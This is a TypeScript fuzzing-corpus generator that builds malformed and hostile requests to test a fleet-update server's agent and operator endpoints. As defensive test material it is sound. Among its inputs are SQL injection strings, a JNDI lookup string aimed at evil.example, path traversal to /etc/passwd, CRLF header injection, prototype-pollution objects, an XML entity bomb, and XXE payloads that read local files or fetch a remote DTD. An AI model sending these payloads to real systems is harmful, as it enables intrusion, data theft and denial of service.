// A deterministic corpus of malformed requests for every agent endpoint and every operator
// route the OpenAPI document lists: broken and hostile JSON, XML bombs, wrong types, unicode
// oddities, SQL-looking filters, wrong content types and absurd lengths.
import type { OperatorOperation } from "./openapi-routes";

/** How a rejection must look for the endpoint's protocol. */
export type ErrorShape = "json-error" | "omaha-xml" | "kind-value";

export interface BadRequest {
  family: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  shape: ErrorShape;
}

export interface CorpusOptions {
  seed: number;
  enrollmentToken: string;
  /** Bearer token of a user allowed to call every operator route (so parsing is reached). */
  adminToken: string;
  operations: OperatorOperation[];
  /** Ignition config name with a published version, for the per-version URL. */
  ignitionConfig: string;
}

/** mulberry32: small, fast, good enough to pick mutations reproducibly. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

const deepArray = (depth: number) => "[".repeat(depth) + "]".repeat(depth);
const deepObject = (depth: number) => '{"a":'.repeat(depth) + "1" + "}".repeat(depth);

/** Strings that have broken parsers, databases and templates before. */
export const ODD_STRINGS: string[] = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "x\udc00y",
  "\udbff\udfff",
  "\u202eevil\u202c",
  "\u200b\u200c\u200d\ufeff",
  "\ufffe\uffff",
  "e\u0301\u0301\u0301\u0301",
  "💥".repeat(300),
  "Ω≈ç√∫˜µ≤≥÷",
  "\t\r\n\u000b\u000c\u0085\u2028\u2029",
  "\u0001\u0002\u0003\u001f\u007f",
  "\\",
  "\\u0000",
  '"',
  "'",
  "' OR '1'='1",
  "'; DROP TABLE hosts; --",
  "1; SELECT pg_sleep(10)",
  "%",
  "_",
  "%00",
  "%s%s%s%n",
  "{{hostname}}",
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "\r\nSet-Cookie: pwned=1",
  "NaN",
  "Infinity",
  "-0",
  "1e999",
  "0x1f",
  "true",
  "null",
  "undefined",
  "[object Object]",
  "__proto__",
  "constructor",
  "9999-99-99T99:99:99Z",
  "0000-00-00",
  "-999999-01-01T00:00:00Z",
  "00000000-0000-0000-0000-000000000000",
  "not-a-uuid",
  "a".repeat(300),
  "a".repeat(70_000),
  "ß".repeat(40_000),
];

const ODD_VALUES: Json[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  -0,
  2 ** 31,
  2 ** 53 + 1,
  1e308,
  -1e308,
  5e-324,
  [],
  [null],
  {},
  { "": "" },
  JSON.parse('{"__proto__":{"admin":true}}') as Json, // an own "__proto__" key, as JSON.parse makes it
  { constructor: { prototype: { admin: true } } },
  Array.from({ length: 5000 }, (_, i) => i),
  Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`k${i}`, i])),
  ...ODD_STRINGS,
];

/** Raw bodies that are not JSON, or not quite. */
const RAW_BODIES: Array<string | Buffer> = [
  "",
  " ",
  "{",
  "}",
  "[",
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":undefined}',
  '{"a":01}',
  '{"a":1e99999}',
  '{"a":"\\x41"}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '{"a":"\u0000"}',
  '{"a":"line\nbreak"}',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  "// comment\n{}",
  "/* c */ {}",
  '{"__proto__":{"isAdmin":true}}',
  '{"a":1,"a":2}',
  "null",
  "true",
  "0",
  '"string"',
  "[]",
  "[1,2,3]",
  "\ufeff{}",
  "<xml/>",
  "a=1&b=2",
  "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n",
  deepArray(100),
  deepArray(5_000),
  deepArray(100_000),
  deepObject(2_000),
  deepObject(50_000),
  `{"a":"${"b".repeat(2 * 1024 * 1024)}"}`,
  `[${"1,".repeat(200_000)}1]`,
  Buffer.from([0xc0, 0xaf, 0x7b, 0x7d]), // overlong "/" then {}
  Buffer.from('{"a":"\xed\xa0\x80"}', "latin1"), // UTF-8-encoded surrogate
  Buffer.from('{"a":"\xff\xfe"}', "latin1"),
  Buffer.from('{"a":"\xf4\x90\x80\x80"}', "latin1"), // beyond U+10FFFF
  Buffer.from("\xff\xfe{\x00}\x00", "latin1"), // UTF-16LE with BOM
  Buffer.alloc(1024, 0),
  Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37) & 0xff)),
];

const CONTENT_TYPES = [
  "application/json",
  "application/json; charset=utf-8",
  "application/json; charset=utf-16",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/xml",
  "application/octet-stream",
  "a/b/c",
  "",
  "application/json\r\n",
];

function pick<T>(r: () => number, list: readonly T[]): T {
  return list[Math.floor(r() * list.length)]!;
}

/** A plausible value for a JSON schema (zod's JSON Schema output), to mutate from. */
export function exampleOf(schema: unknown, depth = 0): Json {
  if (!schema || typeof schema !== "object" || depth > 6) return null;
  const s = schema as Record<string, unknown>;
  if ("default" in s && s.default !== undefined) return s.default as Json;
  if ("const" in s) return s.const as Json;
  if (Array.isArray(s.enum)) return (s.enum[0] ?? null) as Json;
  for (const k of ["anyOf", "oneOf", "allOf"]) {
    const list = s[k];
    if (Array.isArray(list)) {
      const first = list.find((x) => (x as { type?: string }).type !== "null") ?? list[0];
      return exampleOf(first, depth + 1);
    }
  }
  const type = Array.isArray(s.type) ? (s.type as string[]).find((t) => t !== "null") : s.type;
  switch (type) {
    case "object": {
      const props = (s.properties ?? {}) as Record<string, unknown>;
      return Object.fromEntries(Object.entries(props).map(([k, v]) => [k, exampleOf(v, depth + 1)]));
    }
    case "array":
      return [exampleOf(s.items, depth + 1)];
    case "integer":
    case "number":
      return typeof s.minimum === "number" ? s.minimum : 1;
    case "boolean":
      return false;
    case "string":
      if (s.format === "email") return "someone@example.com";
      if (s.format === "uuid") return "00000000-0000-4000-8000-000000000000";
      if (s.format === "date-time") return new Date(0).toISOString();
      return "x".repeat(typeof s.minLength === "number" ? s.minLength : 1);
    default:
      return "x";
  }
}

/** Every path (as key lists) to a leaf or branch of a JSON value, breadth first, bounded. */
function pathsOf(v: Json, prefix: string[] = [], out: string[][] = []): string[][] {
  if (out.length > 60) return out;
  if (v && typeof v === "object" && !Array.isArray(v)) {
    for (const [k, child] of Object.entries(v)) {
      out.push([...prefix, k]);
      pathsOf(child, [...prefix, k], out);
    }
  } else if (Array.isArray(v) && v.length) {
    out.push([...prefix, "0"]);
    pathsOf(v[0]!, [...prefix, "0"], out);
  }
  return out;
}

function withValue(base: Json, path: string[], value: Json | undefined): Json {
  const copy = structuredClone(base);
  if (path.length === 0) return value ?? null;
  let node = copy as Record<string, Json>;
  for (const k of path.slice(0, -1)) {
    const next = node[k];
    if (!next || typeof next !== "object") return copy;
    node = next as Record<string, Json>;
  }
  const last = path.at(-1)!;
  if (value === undefined) delete node[last];
  else node[last] = value;
  return copy;
}

/** `count` malformed variants of a JSON body built around `base`. */
function jsonBodies(r: () => number, base: Json, count: number): Array<{ body: Buffer; contentType: string }> {
  const out: Array<{ body: Buffer; contentType: string }> = [];
  const paths = pathsOf(base);
  const text = JSON.stringify(base);
  for (let i = 0; i < count; i++) {
    const roll = r();
    let body: string | Buffer;
    if (roll < 0.45 && paths.length) {
      // A field with the wrong type, an odd string or an absurd size.
      body = JSON.stringify(withValue(base, pick(r, paths), pick(r, ODD_VALUES)));
    } else if (roll < 0.55 && paths.length) {
      body = JSON.stringify(withValue(base, pick(r, paths), undefined));
    } else if (roll < 0.65) {
      // Truncated somewhere.
      body = text.slice(0, Math.floor(r() * text.length));
    } else if (roll < 0.72) {
      body = JSON.stringify(withValue(base, [pick(r, ["extra", "__proto__", "constructor", "", "\u0000", "a".repeat(5000)])], pick(r, ODD_VALUES)));
    } else if (roll < 0.8) {
      body = JSON.stringify(pick(r, ODD_VALUES));
    } else {
      body = pick(r, RAW_BODIES);
    }
    const contentType = r() < 0.75 ? "application/json" : pick(r, CONTENT_TYPES);
    out.push({ body: Buffer.isBuffer(body) ? body : Buffer.from(body), contentType });
  }
  return out;
}

function headersFor(contentType: string, extra: Record<string, string> = {}): Record<string, string> {
  // Header values cannot carry CR/LF: fetch would refuse to send them.
  const ct = contentType.replace(/[\r\n]/g, "");
  return { ...(ct ? { "content-type": ct } : {}), ...extra };
}

// No "." / ".." / "%2e%2e": URL parsers resolve those on the client, so they would only test
// other (non-existent) paths.
const ODD_PATH_SEGMENTS = [
  "not-a-uuid",
  "0",
  "-1",
  "99999999999999999999999",
  "1.5",
  "' OR '1'='1",
  "%27%3B%20DROP%20TABLE%20hosts%3B--",
  "..%2F..%2Fetc%2Fpasswd",
  "%00",
  "a%00b",
  "%ED%A0%80",
  "%C0%AF",
  "%E0%A4%A",
  "%",
  "%zz",
  "%F0%9F%92%A5",
  "%E2%80%AE",
  "a".repeat(2000),
  "x".repeat(64),
  "null",
  "undefined",
  "%20",
  "00000000-0000-0000-0000-00000000000G",
  "00000000-0000-4000-8000-000000000000",
];

function oddQueryValue(r: () => number): string {
  const roll = r();
  if (roll < 0.15) return pick(r, ["%", "%zz", "%E0%A4%A", "%ED%A0%80", "%C0%AF", "%00", "a%00b", "%FF"]);
  const s = pick(r, ODD_STRINGS).slice(0, 3000);
  return encodeURIComponent(s.replace(/[\ud800-\udfff]/g, "\ufffd"));
}

function querySuffix(r: () => number, names: string[]): string {
  const parts: string[] = [];
  const n = 1 + Math.floor(r() * 4);
  for (let i = 0; i < n; i++) {
    const name = r() < 0.8 && names.length ? pick(r, names) : pick(r, ["cursor", "limit", "sort", "dir", "q", "label", "from", "to", "format", "x", "", "a[]", "__proto__"]);
    parts.push(r() < 0.1 ? name : `${name}=${oddQueryValue(r)}`);
  }
  return `?${parts.join("&")}`;
}

/** Omaha request bodies: bombs, DTDs, broken markup, bad attributes. */
function omahaBodies(r: () => number, count: number): Buffer[] {
  const app = (attrs: string, inner = "<updatecheck></updatecheck>") =>
    `<app appid="e96281a6-d1af-4bde-9a0a-97b76e56dc57" ${attrs}>${inner}</app>`;
  const valid = { version: "3975.2.2", track: "stable", machineid: "a".repeat(32), board: "amd64-usr", bootid: "{d4a3e1b2-0000-4000-8000-000000000000}", machinealias: "node-1", oem: "qemu", alephversion: "3975.2.2" };
  const attrsOf = (o: Record<string, string>) => Object.entries(o).map(([k, v]) => `${k}="${v}"`).join(" ");
  const req = (inner: string, extra = "") => `<?xml version="1.0" encoding="UTF-8"?>\n<request protocol="3.0" version="update_engine-0.4.10" ${extra}><os version="Chateau" platform="CoreOS" sp="3975.2.2_x86_64"></os>${inner}</request>`;
  const fixed: string[] = [
    `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><request protocol="3.0">${app(`version="&lol3;" machineid="${"a".repeat(32)}"`)}</request>`,
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><request protocol="3.0">${app(`version="1.0.0" machineid="${"a".repeat(32)}" track="&xxe;"`)}</request>`,
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><request protocol="3.0"></request>`,
    `<!doctype request><request protocol="3.0"></request>`,
    `<?xml version="1.0"?><!ENTITY a "b"><request protocol="3.0"></request>`,
    req(app(attrsOf(valid), "<![CDATA[<updatecheck/>]]>")),
    req(app(attrsOf(valid)) + app(attrsOf(valid))),
    req(app(attrsOf(valid)), 'xmlns="urn:evil" xmlns:x="urn:x"'),
    req(""),
    "",
    " ",
    "<",
    "<request",
    '<request protocol="3.0">',
    '<request protocol="3.0"></requests>',
    '<request protocol="3.0"/><request protocol="3.0"/>',
    '<response protocol="3.0"></response>',
    '<request protocol="2.0"></request>',
    '<request protocol="3.0">text only</request>',
    `<request protocol="3.0">${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}</request>`,
    `<request protocol="3.0">${"<a>".repeat(17)}${"</a>".repeat(17)}</request>`,
    req(app(attrsOf({ ...valid, machinealias: "x".repeat(60_000) }))),
    req(app(attrsOf(valid)).repeat(800)),
    req(app(attrsOf(valid), '<event eventtype="3" eventresult="2"></event>'.repeat(1000))),
    req(app(attrsOf(valid))) + "x".repeat(70_000),
    "\ufeff" + req(app(attrsOf(valid))),
    req(app(attrsOf(valid))).replace('encoding="UTF-8"', 'encoding="UTF-16"'),
    req(app(`${attrsOf(valid)} version="1.0.0"`)),
    req(`<app appid="{E96281A6-D1AF-4BDE-9A0A-97B76E56DC57}" ${attrsOf(valid)}></app>`),
    req(`<app appid="{00000000-0000-0000-0000-000000000000}" ${attrsOf(valid)}></app>`),
    req(`<app appid="&lt;script&gt;" ${attrsOf(valid)}></app>`),
    req(`<app ${attrsOf(valid)}></app>`),
  ];
  const oddAttr = [
    "&#0;",
    "&#x0;",
    "&#xD800;",
    "&#xDFFF;",
    "&#55296;",
    "&#x110000;",
    "&#99999999;",
    "&#x1;",
    "&#xFFFE;",
    "&#65;",
    "&unknown;",
    "&",
    "&amp",
    "&lt;script&gt;",
    "<",
    "\u0000",
    "\ud800",
    "\u202e",
    "' OR 1=1 --",
    "%00",
    "x".repeat(5000),
    "",
    " ",
    "-1",
    "99999999999999",
    "1e5",
    "0.0.0.0",
    "{{hostname}}",
  ];
  const out: Buffer[] = fixed.map((s) => Buffer.from(s));
  const names = [...Object.keys(valid), "appid"];
  while (out.length < count) {
    const roll = r();
    if (roll < 0.5) {
      const o = { ...valid } as Record<string, string>;
      o[pick(r, names)] = pick(r, oddAttr);
      out.push(Buffer.from(req(app(attrsOf(o)))));
    } else if (roll < 0.7) {
      const ev = `<event eventtype="${pick(r, oddAttr)}" eventresult="${pick(r, ["2", "0", pick(r, oddAttr)])}" previousversion="${pick(r, oddAttr)}" errorcode="${pick(r, oddAttr)}"></event>`;
      out.push(Buffer.from(req(app(attrsOf(valid), ev))));
    } else if (roll < 0.85) {
      // Byte flips in an otherwise valid request.
      const b = Buffer.from(req(app(attrsOf(valid))));
      const flips = 1 + Math.floor(r() * 4);
      for (let i = 0; i < flips; i++) b[Math.floor(r() * b.length)] = Math.floor(r() * 256);
      out.push(b);
    } else {
      const s = req(app(attrsOf(valid)));
      out.push(Buffer.from(s.slice(0, Math.floor(r() * s.length))));
    }
  }
  return out;
}

const PASSWORD_ROUTES = new Set(["/api/v1/auth/login", "/api/v1/setup", "/api/v1/users", "/api/v1/users/{id}"]);

/**
 * Builds the corpus. Operator requests carry an admin token so that they get past
 * authentication and exercise parsing and the data layer; agent requests carry a valid
 * enrollment token where one is needed.
 */
export function badInputCorpus(opts: CorpusOptions): BadRequest[] {
  const r = rng(opts.seed);
  const out: BadRequest[] = [];
  const auth = { authorization: `Bearer ${opts.adminToken}` };

  // Native agent reports.
  const report = { machineId: "ab".repeat(16), hostname: "node-1", os: { family: "flatcar", version: "4081.2.0", arch: "amd64" }, slot: "A", state: "error", error: { code: 7, message: "boom" }, health: [{ name: "disk", ok: true, detail: "" }], labels: { site: "berlin" }, group: "default", agent: { name: "a", version: "1" }, deploymentId: "d-1", previousVersion: "3975.2.2" };
  for (const { body, contentType } of jsonBodies(r, report, 1200)) {
    const token = r() < 0.95 ? `Bearer ${opts.enrollmentToken}` : pick(r, ["", "Bearer", `bearer ${opts.enrollmentToken}`, `Bearer ${opts.enrollmentToken}x`, `Basic ${opts.enrollmentToken}`, `Bearer ${"a".repeat(4000)}`]);
    out.push({ family: "native-report", method: "POST", path: "/v1/agent/report", headers: headersFor(contentType, token ? { authorization: token } : {}), body, shape: "json-error" });
  }

  // Omaha.
  for (const body of omahaBodies(r, 1200)) {
    out.push({ family: "omaha", method: "POST", path: pick(r, ["/v1/update/", "/v1/update"]), headers: { "content-type": r() < 0.8 ? "text/xml" : pick(r, CONTENT_TYPES).replace(/[\r\n]/g, "") }, body, shape: "omaha-xml" });
  }

  // Cincinnati graph.
  const graphParams = ["basearch", "stream", "os_version", "os_checksum", "oci", "group", "node_uuid", "platform", "rollout_wariness"];
  const validGraph = "basearch=x86_64&stream=stable&os_version=40.20240416.3.1&os_checksum=abc123&group=default&node_uuid=e0f3745b108f471cbd4883c6fbed8cdd&platform=qemu";
  for (let i = 0; i < 500; i++) {
    const path = r() < 0.5 ? `/v1/graph${querySuffix(r, graphParams)}` : `/v1/graph?${validGraph}&${pick(r, graphParams)}=${oddQueryValue(r)}`;
    out.push({ family: "graph", method: "GET", path, headers: { accept: "application/json" }, shape: "kind-value" });
  }

  // FleetLock.
  const lock = { client_params: { id: "e0f3745b108f471cbd4883c6fbed8cdd", group: "default" } };
  for (const { body, contentType } of jsonBodies(r, lock, 600)) {
    const header = r() < 0.9 ? "true" : pick(r, ["false", "TRUE", "1", "", " true"]);
    out.push({ family: "fleetlock", method: "POST", path: pick(r, ["/v1/pre-reboot", "/v1/steady-state"]), headers: headersFor(contentType, { "fleet-lock-protocol": header }), body, shape: "kind-value" });
  }

  // Ignition serving.
  const selectors = ["uuid", "mac", "hostname", "serial", "machine_id", "group", "site", "os", "UUID", " mac"];
  for (let i = 0; i < 300; i++) {
    out.push({ family: "ignition", method: "GET", path: `/ignition${querySuffix(r, selectors)}`, headers: {}, shape: "json-error" });
  }
  for (let i = 0; i < 150; i++) {
    const name = r() < 0.5 ? opts.ignitionConfig : pick(r, ODD_PATH_SEGMENTS);
    const version = pick(r, ["1", "0", "-1", "99999999999", "1.5", "1e3", "%00", "..%2F1", pick(r, ODD_PATH_SEGMENTS)]);
    const suffix = r() < 0.3 ? querySuffix(r, selectors) : "";
    out.push({ family: "ignition", method: "GET", path: `/ignition/configs/${name}/${version}${r() < 0.8 ? ".ign" : pick(r, ["", ".json", ".ign.ign", "%2Eign"])}${suffix}`, headers: {}, shape: "json-error" });
  }

  // Wrong methods on agent endpoints.
  for (const [path, methods] of Object.entries({ "/v1/agent/report": ["GET", "PUT", "DELETE", "PATCH"], "/v1/update/": ["GET", "PUT"], "/v1/graph": ["POST", "DELETE"], "/v1/pre-reboot": ["GET", "PUT"], "/v1/steady-state": ["GET", "DELETE"], "/ignition": ["POST"], "/healthz": ["POST"], "/metrics": ["DELETE"] })) {
    for (const method of methods) out.push({ family: "agent-method", method, path, headers: {}, ...(method === "GET" || method === "DELETE" ? {} : { body: Buffer.from("{}") }), shape: "json-error" });
  }

  // Operator API: every documented operation, with malformed bodies, queries and path params.
  for (const op of opts.operations) {
    const base = op.hasBody ? exampleOf(op.bodySchema) : {};
    const paramValue = () => pick(r, ODD_PATH_SEGMENTS);
    const path = (odd: boolean) => op.path.replace(/\{([^}]+)\}/g, (_m, name: string) => (odd ? paramValue() : name === "id" ? "00000000-0000-4000-8000-000000000000" : name === "version" ? "1" : "no-such-name"));
    // Routes that hash a password (argon2, deliberately slow) get fewer variants.
    const perOp = op.method === "GET" ? 70 : PASSWORD_ROUTES.has(op.path) ? 40 : 150;
    if (op.method === "GET") {
      for (let i = 0; i < perOp; i++) {
        const odd = op.pathParams.length > 0 && r() < 0.5;
        out.push({ family: `operator ${op.method} ${op.path}`, method: "GET", path: `${path(odd)}${querySuffix(r, op.queryParams)}`, headers: { ...auth }, shape: "json-error" });
      }
    } else {
      for (const { body, contentType } of jsonBodies(r, base, perOp)) {
        const odd = op.pathParams.length > 0 && r() < 0.3;
        out.push({ family: `operator ${op.method} ${op.path}`, method: op.method, path: path(odd), headers: headersFor(contentType, op.open ? {} : auth), body, shape: "json-error" });
      }
    }
  }

  // Operator credentials and cookies that are not what they seem.
  const cookieJunk = ["flotilla_session=", "flotilla_session=' OR 1=1 --", `flotilla_session=${"a".repeat(4000)}`, "flotilla_session=%00", "flotilla_session=fls_x; flotilla_session=fls_y", "flotilla_session", "=;=;=", "flotilla_session=\u00e9"];
  for (let i = 0; i < 100; i++) {
    const op = pick(r, opts.operations.filter((o) => o.method === "GET"));
    const junk = pick(r, cookieJunk).replace(/[^\x20-\x7e]/g, "x");
    out.push({ family: "operator-credentials", method: "GET", path: path0(op), headers: r() < 0.5 ? { cookie: junk } : { authorization: pick(r, ["Bearer", "Bearer ", "Bearer fla_", `Bearer fla_${"A".repeat(43)}`, "Basic YTpi", "Digest x", `Bearer ${"x".repeat(6000)}`, "Bearer ' OR 1=1 --"]) }, shape: "json-error" });
  }
  return out;
}

function path0(op: OperatorOperation): string {
  return op.path.replace(/\{([^}]+)\}/g, (_m, name: string) => (name === "id" ? "00000000-0000-4000-8000-000000000000" : "x"));
}
